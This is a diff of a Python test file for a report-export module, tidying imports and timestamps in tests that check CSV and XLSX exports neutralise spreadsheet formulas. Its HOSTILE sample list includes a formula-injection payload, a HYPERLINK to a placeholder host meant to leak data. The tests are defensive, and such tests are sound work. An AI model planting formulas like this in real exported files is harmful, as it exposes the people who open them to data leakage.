@@ -10,11 +10,13 @@ from __future__ import annotations
 
 import io
 import zipfile
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
 
+from tests.reports.data import YEAR, build_year
+from tests.reports.sheets import read_csv
 from tremplin.core.app import App
 from tremplin.core.models import ClosurePeriod
 from tremplin.core.reports.build import annual_report
@@ -26,8 +28,6 @@ from tremplin.core.reports.export import (
     write_table_xlsx,
 )
 from tremplin.core.reports.render import render_bytes
-from tests.reports.data import YEAR, build_year
-from tests.reports.sheets import read_csv
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak","Open")',
@@ -157,7 +157,7 @@ def test_the_web_download_is_safe_too(hostile_closures: App, centre: int) -> Non
 def test_the_contacts_export_and_the_list_writers_neutralise_text(tmp_path: Path) -> None:
     from tremplin.core.reports.export import CONTACT_COLUMNS
 
-    moment = datetime(2025, 3, 7, 13, 5, tzinfo=timezone.utc)
+    moment = datetime(2025, 3, 7, 13, 5, tzinfo=UTC)
     row = (
         1,
         "bxl",
@@ -232,10 +232,10 @@ def test_rows_streamed_as_text_read_back_like_the_cells_xlsxwriter_writes(monkey
         return streamed_rows[-1]
 
     monkeypatch.setattr(streaming, "write_plain_rows", spy)
-    moment = datetime(2025, 3, 30, 1, 30, 15, tzinfo=timezone.utc)
+    moment = datetime(2025, 3, 30, 1, 30, 15, tzinfo=UTC)
     rows = [
         (1, "bxl", "", None, date(2025, 3, 7), moment, 2.5, -3, True, False, 10**17),
-        (2, "<b>gras</b> & \"quotes\"", " leading space", "trailing ", "bell\x07", "é ü ї 🙂", HOSTILE[0]),
+        (2, '<b>gras</b> & "quotes"', " leading space", "trailing ", "bell\x07", "é ü ї 🙂", HOSTILE[0]),
         (3, HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4], "x" * 40_000, "line\nbreak", datetime(2025, 1, 1, 0, 0)),
     ]
 
@@ -256,5 +256,8 @@ def test_rows_streamed_as_text_read_back_like_the_cells_xlsxwriter_writes(monkey
     assert streamed_rows == [len(rows)], "the rows were written as text"
     assert streamed_cells == kept_cells
     assert streamed_cells[1][0][0] == 1 and streamed_cells[2][6][0] == "'" + HOSTILE[0]
-    assert len(streamed_cells[3][5][0]) == 32_767 and streamed_cells[-1][:2] == [("after", "s", "General"), (4, "n", "General")]
+    assert len(streamed_cells[3][5][0]) == 32_767 and streamed_cells[-1][:2] == [
+        ("after", "s", "General"),
+        (4, "n", "General"),
+    ]
     assert not formulas_in(streamed)
